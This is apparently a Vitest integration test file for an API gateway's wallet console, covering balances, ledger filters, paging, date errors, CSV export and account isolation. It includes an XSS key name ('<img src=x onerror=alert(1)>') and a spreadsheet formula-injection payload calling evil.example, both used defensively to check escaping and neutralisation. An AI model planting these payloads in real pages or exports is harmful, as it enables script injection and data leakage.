import { PutCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LedgerEntry } from '../../lambdas/gateway/wallet-view.ts';
import { createAccount, getAccount, updateAccount } from '../../lambdas/services/accounts.ts';
import { createKey } from '../../lambdas/services/keys.ts';
import { addMember } from '../../lambdas/services/members.ts';
import { topUp } from '../../lambdas/services/topups.ts';
import { listUsage } from '../../lambdas/services/usage.ts';
import { USAGE_CSV_COLUMNS } from '../../lambdas/services/usage-export.ts';
import type { UsageRow } from '../../lambdas/vocabulary.ts';
import { putRoute, settledUsage } from '../support/accounts.ts';
import { parseCsv } from '../support/csv.ts';
import { createTestDatabase, type TestDatabase } from '../support/dynamo.ts';
import { usageRow } from '../support/rows.ts';
import { type Answer, send, startTestConsole, type TestConsole } from './console-client.ts';

const DAY_MS = 86_400_000;
const HOSTILE_KEY = '<img src=x onerror=alert(1)>';
/** A route name a spreadsheet would run as a formula: the CSV's model cell must neutralise it. */
const FORMULA_MODEL = '=HYPERLINK("http://evil.example/?leak","click")';

/** Text without tags and with the entities Preact writes decoded, whitespace collapsed. */
const textOf = (markup: string): string =>
  markup
    .replace(/<[^>]*>/g, ' ')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&')
    .replace(/\s+/g, ' ')
    .trim();

/** The balance figure as shown. */
const balanceOf = (page: string): string => {
  const match = /data-testid="balance"[^>]*>([\s\S]*?)<\/div>/.exec(page);
  expect(match).not.toBeNull();
  return textOf(match?.[1] ?? '');
};

/** A `<dt>` fact of the balance card, e.g. "Credit limit". */
const factOf = (page: string, name: string): string => {
  const match = new RegExp(`<dt>${name}</dt><dd>([\\s\\S]*?)</dd>`).exec(page);
  expect(match).not.toBeNull();
  return textOf(match?.[1] ?? '');
};

const section = (page: string, id: string): string => {
  const start = page.indexOf(`aria-labelledby="${id}"`);
  expect(start).toBeGreaterThan(-1);
  return page.slice(start, page.indexOf('</section>', start));
};

/** The ledger's rows: the request ids (or top-up ids) in page order. */
const ledgerIds = (page: string): string[] => {
  const ledger = section(page, 'ledger-title');
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(ledger)?.[1] ?? '';
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) => {
    const cells = row[1] ?? '';
    return /data-request="([^"]+)"/.exec(cells)?.[1] ?? /Top-up <span[^>]*>([^<]+)</.exec(cells)?.[1] ?? '?';
  });
};

/** The ledger row of a request, as text: time, key, model, tokens, cost, balance change. */
const ledgerRow = (page: string, requestId: string): string => {
  const ledger = section(page, 'ledger-title');
  const at = ledger.indexOf(`data-request="${requestId}"`);
  expect(at).toBeGreaterThan(-1);
  const start = ledger.lastIndexOf('<tr>', at);
  return ledger.slice(start, ledger.indexOf('</tr>', at));
};

const cellsOf = (row: string): string[] => [...row.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((m) => m[1] ?? '');

/** The "Older rows →" link's path, entities decoded. */
const olderLink = (page: string): string | undefined => {
  const href = /<a class="button secondary" href="([^"]+)">Older rows/.exec(page)?.[1];
  return href?.replaceAll('&amp;', '&');
};

/** CSV rows as objects by column name. */
const csvRecords = (text: string): Record<string, string>[] => {
  const [header = [], ...rows] = parseCsv(text);
  return rows.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index] ?? ''])));
};

/** A USD decimal as exact nano-USD. */
const nanoOf = (usd: string): bigint => {
  const [whole = '0', fraction = ''] = usd.split('.');
  return BigInt(whole) * 1_000_000_000n + BigInt(fraction.padEnd(9, '0'));
};

const isoDay = (ms: number): string => new Date(ms).toISOString().slice(0, 10);

/** A settled usage row written straight into the ledger, at a chosen time (the balance is not moved). */
const putSettled = async (
  db: TestDatabase,
  accountId: string,
  { id, at, keyId, model, cost }: { id: string; at: Date; keyId: string; model: string; cost: number },
): Promise<UsageRow> => {
  const row: UsageRow = {
    ...usageRow(accountId, id, at, cost * 2),
    status: 'final',
    cost,
    keyId,
    model,
    outcome: 'completed',
    usage: { inputTokens: 100, outputTokens: 20, cacheReadTokens: 0, cacheWriteTokens: 0 },
  };
  await db.client.send(new PutCommand({ TableName: db.tables.ledger, Item: row }));
  return row;
};

const chat = (base: string, secret: string, model: string, content: string): Promise<Response> =>
  fetch(`${base}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model, messages: [{ role: 'user', content }] }),
  });

describe('GET /console/wallet and /console/wallet.csv', () => {
  let db: TestDatabase;
  let console: TestConsole;
  /** ada@ is a member of acme, eve@ of rival. */
  let ada: string;
  let eve: string;
  let buildBot: string;
  let hostileKey: string;
  let rivalKey: string;
  /** acme's ledger as the CLI reads it (`tollgate usage`), newest first. */
  let acmeLedger: LedgerEntry[];
  const get = (path: string, cookie: string): Promise<Answer> => console.get(path, { cookie });

  beforeAll(async () => {
    db = await createTestDatabase();
    console = await startTestConsole(db);
    await putRoute(db, { model: 'tollgate-echo', provider: 'echo' });
    await putRoute(db, {
      model: 'echo-premium',
      provider: 'echo',
      prices: { input: 3_000_000_000, output: 15_000_000_000 },
    });
    await putRoute(db, { model: FORMULA_MODEL, provider: 'echo' });
    await putRoute(db, { model: 'rival-only', provider: 'echo' });

    await createAccount(db.stores, { accountId: 'acme' });
    await topUp(db.stores, { accountId: 'acme', amountUsd: '10.00', topUpId: 'acme-topup-1' });
    await updateAccount(db.stores, { accountId: 'acme', creditLimitUsd: '25', discount: '0.8' });
    await addMember(db.stores, { accountId: 'acme', email: 'ada@example.com' });
    const bot = await createKey(db.stores, { accountId: 'acme', name: 'build bot' });
    const hostile = await createKey(db.stores, { accountId: 'acme', name: HOSTILE_KEY });
    buildBot = bot.keyId;
    hostileKey = hostile.keyId;

    await createAccount(db.stores, { accountId: 'rival' });
    await topUp(db.stores, { accountId: 'rival', amountUsd: '777.77', topUpId: 'rival-topup-1' });
    await addMember(db.stores, { accountId: 'rival', email: 'eve@example.com' });
    const rival = await createKey(db.stores, { accountId: 'rival', name: 'rival key' });
    rivalKey = rival.keyId;

    const answers = await Promise.all([
      chat(console.url, bot.key, 'tollgate-echo', 'hello wallet'),
      chat(console.url, hostile.key, 'echo-premium', 'a premium hello from a strange key'),
      chat(console.url, bot.key, FORMULA_MODEL, 'formula'),
      chat(console.url, rival.key, 'rival-only', 'rival traffic'),
    ]);
    for (const answer of answers) expect(answer.status).toBe(200);
    await settledUsage(db, 'acme', 3);
    await settledUsage(db, 'rival', 1);
    acmeLedger = (await listUsage(db.stores, { accountId: 'acme', limit: 100 })).ledger.data;
    ada = await console.signIn('ada@example.com');
    eve = await console.signIn('eve@example.com');
  });
  afterAll(async () => {
    await console?.close();
  });

  const usageOf = (model: string) => {
    const entry = acmeLedger.find((row) => row.type === 'usage' && row.model === model);
    if (entry?.type !== 'usage' || entry.cost_usd === null) throw new Error(`no settled ${model} row`);
    return entry;
  };

  it("shows the balance, credit limit and discount exactly as the CLI's getAccount", async () => {
    const cli = await getAccount(db.stores, { accountId: 'acme' });

    const page = await get('/console/wallet', ada);

    expect(page.status).toBe(200);
    expect(cli.balance_usd).not.toBe('10.00'); // the requests cost something
    expect(balanceOf(page.body)).toBe(`$${cli.balance_usd}`);
    expect(factOf(page.body, 'Credit limit')).toBe(`$${cli.credit_limit_usd}`);
    expect(cli.credit_limit_usd).toBe('25.00');
    expect(factOf(page.body, 'Available')).toContain(`$${cli.available_usd}`);
    expect(factOf(page.body, 'Discount')).toBe('0.8 of list price (20% off)');
  });

  it("lists a real request with its exact cost and its key's name", async () => {
    const echo = usageOf('tollgate-echo');

    const page = await get('/console/wallet', ada);

    const cells = cellsOf(ledgerRow(page.body, echo.id)).map(textOf);
    expect(cells[1]).toBe('build bot');
    expect(cells[2]).toBe('tollgate-echo echo');
    expect(cells[7]).toBe(`$${echo.cost_usd}`);
    expect(cells[8]).toBe(`−$${echo.cost_usd}`);
    expect(ledgerIds(page.body)).toEqual(acmeLedger.map((entry) => entry.id));
  });

  it('narrows the ledger by key and by model', async () => {
    const premium = usageOf('echo-premium');

    const byKey = await get(`/console/wallet?key=${hostileKey}`, ada);
    const byBot = await get(`/console/wallet?key=${buildBot}`, ada);
    const byModel = await get('/console/wallet?model=tollgate-echo', ada);
    const both = await get(`/console/wallet?key=${hostileKey}&model=tollgate-echo`, ada);

    expect(ledgerIds(byKey.body)).toEqual([premium.id]);
    expect(ledgerIds(byModel.body)).toEqual([usageOf('tollgate-echo').id]);
    expect(new Set(ledgerIds(byBot.body))).toEqual(new Set([usageOf('tollgate-echo').id, usageOf(FORMULA_MODEL).id]));
    expect(both.body).toContain('No ledger rows match these filters.');
    expect(byKey.body).toContain(`<option value="${hostileKey}" selected>`);
  });

  it('escapes a key named like markup in the ledger, the totals and the filter', async () => {
    const page = await get('/console/wallet', ada);

    expect(page.body).not.toContain('<img src=x');
    expect(page.body).not.toMatch(/<img\b/);
    const escaped = '&lt;img src=x onerror=alert(1)>';
    expect(textOf(cellsOf(ledgerRow(page.body, usageOf('echo-premium').id))[1] ?? '')).toBe(HOSTILE_KEY);
    expect(section(page.body, 'ledger-title')).toContain(escaped);
    expect(section(page.body, 'totals-title')).toContain(escaped);
    expect(page.body).toContain(`${escaped} (${hostileKey})`);
  });

  it('totals each model exactly, and the models add up to the total', async () => {
    const page = await get('/console/wallet', ada);

    const totals = section(page.body, 'totals-title');
    const byModel = new Map(
      [...totals.matchAll(/<tr>\s*<td class="name">([\s\S]*?)<\/td>([\s\S]*?)<\/tr>/g)].map((row) => [
        textOf(row[1] ?? ''),
        cellsOf(row[2] ?? '').map(textOf),
      ]),
    );
    const models = ['tollgate-echo', 'echo-premium', FORMULA_MODEL];
    for (const model of models) {
      expect(byModel.get(model)?.at(-1)).toBe(`$${usageOf(model).cost_usd}`);
      expect(byModel.get(model)?.[0]).toBe('1');
    }
    const sum = models.reduce((total, model) => total + BigInt(usageOf(model).cost_nano ?? 0), 0n);
    const spent = /<dt>Spent<\/dt><dd>([\s\S]*?)<\/dd>/.exec(totals)?.[1] ?? '';
    expect(textOf(spent)).toMatch(/over 3 requests$/);
    expect(nanoOf(textOf(spent).replace(/^\$(\S+) over.*$/, '$1'))).toBe(sum);
    // The chart's accessible table and tooltips carry the same exact amounts.
    const chart = section(page.body, 'chart-title');
    expect(chart).toContain('<svg class="plot"');
    for (const model of ['tollgate-echo', 'echo-premium'])
      expect(chart).toContain(`· ${model}: $${usageOf(model).cost_usd}</title>`);
  });

  it("never shows another account's rows or balance, whatever key or model filter is asked for", async () => {
    const rivalBalance = (await getAccount(db.stores, { accountId: 'rival' })).balance_usd;
    const rivalRequest = (await listUsage(db.stores, { accountId: 'rival' })).ledger.data[0]?.id ?? '';
    expect(rivalRequest).not.toBe('');

    const pages = await Promise.all([
      get(`/console/wallet?key=${rivalKey}`, ada),
      get('/console/wallet?model=rival-only', ada),
      get('/console/wallet', ada),
    ]);
    const csvs = await Promise.all([
      get(`/console/wallet.csv?key=${rivalKey}`, ada),
      get('/console/wallet.csv?model=rival-only', ada),
      get('/console/wallet.csv', ada),
    ]);

    expect(ledgerIds(pages[0]?.body ?? '')).toEqual([]);
    expect(ledgerIds(pages[1]?.body ?? '')).toEqual([]);
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(page.body).not.toContain(rivalRequest);
      expect(page.body).not.toContain('rival-topup-1');
      expect(page.body).not.toContain(`$${rivalBalance}`);
      expect(page.body).not.toContain('777.77');
      expect(balanceOf(page.body)).toBe(`$${(await getAccount(db.stores, { accountId: 'acme' })).balance_usd}`);
    }
    expect(csvRecords(csvs[0]?.body ?? '')).toEqual([]);
    expect(csvRecords(csvs[1]?.body ?? '')).toEqual([]);
    expect(csvRecords(csvs[2]?.body ?? '').map((row) => row['request_id'])).toEqual(
      acmeLedger.map((entry) => entry.id),
    );
    for (const csv of csvs) {
      expect(csv.status).toBe(200);
      expect(csv.body).not.toContain(rivalRequest);
      expect(csv.body).not.toContain('rival');
    }
    // And the other way round: eve sees rival's, none of acme's.
    const theirs = await get('/console/wallet', eve);
    expect(ledgerIds(theirs.body)).toEqual([rivalRequest, 'rival-topup-1']);
    expect(balanceOf(theirs.body)).toBe(`$${rivalBalance}`);
  });

  it('exports the range as a CSV attachment whose amounts are the ledger rows, exactly', async () => {
    const today = isoDay(Date.now());
    const yesterday = isoDay(Date.now() - DAY_MS);

    const csv = await get(`/console/wallet.csv?from=${yesterday}&to=${today}`, ada);

    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv\b/);
    expect(csv.headers['content-disposition']).toBe(
      `attachment; filename="tollgate-acme-${yesterday}-to-${today}.csv"`,
    );
    expect(csv.body.split('\r\n')[0]).toBe(USAGE_CSV_COLUMNS.join(','));
    const records = csvRecords(csv.body);
    expect(records.map((row) => row['request_id'])).toEqual(acmeLedger.map((entry) => entry.id));
    for (const [index, entry] of acmeLedger.entries()) {
      const record = records[index];
      expect(record?.['amount_usd']).toBe(entry.amount_usd);
      if (entry.type === 'usage') {
        expect(record?.['cost_usd']).toBe(entry.cost_usd);
        expect(record?.['key_id']).toBe(entry.key_id);
        expect(record?.['discount']).toBe('0.8');
      }
    }
  });

  it('neutralises a formula in the model cell: the client picks the route, and the route name reaches the CSV', async () => {
    const formula = usageOf(FORMULA_MODEL);

    const csv = await get('/console/wallet.csv', ada);
    const page = await get('/console/wallet', ada);

    const record = csvRecords(csv.body).find((row) => row['request_id'] === formula.id);
    expect(record?.['model']).toBe(`'${FORMULA_MODEL}`);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
    // Amounts stay numbers (a leading minus is not neutralised).
    expect(record?.['amount_usd']).toBe(formula.amount_usd);
    expect(record?.['amount_usd']?.startsWith('-')).toBe(true);
    // In the page the name is text, its quotes escaped where it is an attribute.
    expect(cellsOf(ledgerRow(page.body, formula.id)).map(textOf)[2]).toBe(`${FORMULA_MODEL} echo`);
    expect(page.body).toContain(`value="=HYPERLINK(&quot;http://evil.example/?leak&quot;,&quot;click&quot;)"`);
  });

  it('answers 400 with an error to a date that is not one, and the CSV refuses it before any text', async () => {
    const cases = ['2026-13-45', 'yesterday', '2026-02-30', '2026-11-31'];
    for (const bad of cases) {
      const page = await get(`/console/wallet?from=${bad}`, ada);
      const upTo = await get(`/console/wallet?to=${bad}`, ada);
      const csv = await get(`/console/wallet.csv?to=${bad}`, ada);

      expect(page.status, bad).toBe(400);
      expect(page.body).toContain(`'${bad}' is not a date (YYYY-MM-DD).`);
      expect(page.body).toContain('role="alert"');
      expect(upTo.status, bad).toBe(400);
      // The page still works: the balance and the unfiltered ledger are there.
      expect(ledgerIds(page.body)).toEqual(acmeLedger.map((entry) => entry.id));
      expect(csv.status, bad).toBe(400);
      expect(csv.headers['content-type']).not.toMatch(/csv/);
      expect(csv.body).not.toContain('request_id');
    }
    const backwards = await get('/console/wallet?from=2026-11-10&to=2026-11-01', ada);
    expect(backwards.status).toBe(400);
    expect(backwards.body).toContain('The start date is after the end date.');
  });
});

describe('the wallet ledger by date, page after page', () => {
  let db: TestDatabase;
  let console: TestConsole;
  let cookie: string;
  /** Days before the console's today, as `YYYY-MM-DD`. */
  let day: (ago: number) => string;
  const rows: UsageRow[] = [];

  beforeAll(async () => {
    db = await createTestDatabase();
    console = await startTestConsole(db);
    const noon = (ago: number) => Date.parse(`${isoDay(console.clock.ms - ago * DAY_MS)}T12:00:00.000Z`);
    day = (ago) => isoDay(console.clock.ms - ago * DAY_MS);
    await createAccount(db.stores, { accountId: 'busy' });
    await addMember(db.stores, { accountId: 'busy', email: 'ada@example.com' });
    // 60 rows of key_a on gpt-a five days ago, one a minute; one row each of key_b / gpt-b on days 4, 3 and 2.
    for (let i = 0; i < 60; i++) {
      rows.push(
        await putSettled(db, 'busy', {
          id: `req_a_${String(i).padStart(2, '0')}`,
          at: new Date(noon(5) + i * 60_000),
          keyId: 'key_a',
          model: 'gpt-a',
          cost: 1_000_000 + i,
        }),
      );
    }
    for (const ago of [4, 3, 2]) {
      rows.push(
        await putSettled(db, 'busy', {
          id: `req_b_${ago}`,
          at: new Date(noon(ago)),
          keyId: 'key_b',
          model: 'gpt-b',
          cost: 7_000_000 + ago,
        }),
      );
    }
    cookie = await console.signIn('ada@example.com');
  });
  afterAll(async () => {
    await console?.close();
  });

  it('keeps only the rows of the days from `from` to `to`, both inclusive', async () => {
    const page = await console.get(`/console/wallet?from=${day(4)}&to=${day(3)}`, { cookie });
    const one = await console.get(`/console/wallet?from=${day(2)}&to=${day(2)}`, { cookie });
    const since = await console.get(`/console/wallet?from=${day(3)}`, { cookie });

    expect(page.status).toBe(200);
    expect(ledgerIds(page.body)).toEqual(['req_b_3', 'req_b_4']);
    expect(ledgerIds(one.body)).toEqual(['req_b_2']);
    expect(ledgerIds(since.body)).toEqual(['req_b_2', 'req_b_3']);
    expect(page.body).toContain(`value="${day(4)}"`);
    expect(page.body).toContain(`value="${day(3)}"`);
  });

  it('totals only the period of the filter', async () => {
    const page = await console.get(`/console/wallet?from=${day(4)}&to=${day(3)}`, { cookie });

    const totals = textOf(section(page.body, 'totals-title'));
    expect(totals).toContain(`${day(4)} to ${day(3)} (UTC)`);
    expect(totals).toContain('$0.014000007 over 2 requests');
  });

  it('pages 50 rows at a time, and the "Older rows" link keeps the filters', async () => {
    const first = await console.get(`/console/wallet?key=key_a&model=gpt-a&from=${day(6)}&to=${day(1)}`, { cookie });
    const link = olderLink(first.body) ?? '';
    const second = await console.get(link, { cookie });

    expect(ledgerIds(first.body)).toHaveLength(50);
    const query = new URL(link, 'http://x').searchParams;
    expect(query.get('key')).toBe('key_a');
    expect(query.get('model')).toBe('gpt-a');
    expect(query.get('from')).toBe(day(6));
    expect(query.get('to')).toBe(day(1));
    expect(query.get('cursor')).toBeTruthy();
    const all = [...ledgerIds(first.body), ...ledgerIds(second.body)];
    const expected = rows
      .filter((row) => row.keyId === 'key_a')
      .map((row) => row.requestId)
      .reverse();
    expect(all).toEqual(expected);
    expect(olderLink(second.body)).toBeUndefined();
  });

  it('exports only the range, with the costs of the rows', async () => {
    const csv = await console.get(`/console/wallet.csv?from=${day(4)}&to=${day(2)}`, { cookie });

    const records = csvRecords(csv.body);
    expect(records.map((row) => [row['request_id'], row['cost_usd'], row['amount_usd']])).toEqual([
      ['req_b_2', '0.007000002', '-0.007000002'],
      ['req_b_3', '0.007000003', '-0.007000003'],
      ['req_b_4', '0.007000004', '-0.007000004'],
    ]);
  });
});

describe('the wallet of a fresh account', () => {
  it('says there is nothing yet, in the ledger and the chart', async () => {
    const db = await createTestDatabase();
    const console = await startTestConsole(db);
    try {
      await createAccount(db.stores, { accountId: 'fresh' });
      await addMember(db.stores, { accountId: 'fresh', email: 'new@example.com' });
      const cookie = await console.signIn('new@example.com');

      const page = await console.get('/console/wallet', { cookie });
      const csv = await send(console.url, 'GET', '/console/wallet.csv', { cookie });

      expect(page.status).toBe(200);
      expect(balanceOf(page.body)).toBe('$0.00');
      expect(page.body).toContain('No requests or top-ups yet.');
      expect(page.body).toContain('No spend in the last 30 days.');
      expect(page.body).toContain('No requests in this period.');
      expect(page.body).not.toContain('<svg class="plot"');
      expect(csv.status).toBe(200);
      expect(csv.body).toBe(`${USAGE_CSV_COLUMNS.join(',')}\r\n`);
    } finally {
      await console.close();
    }
  });
});
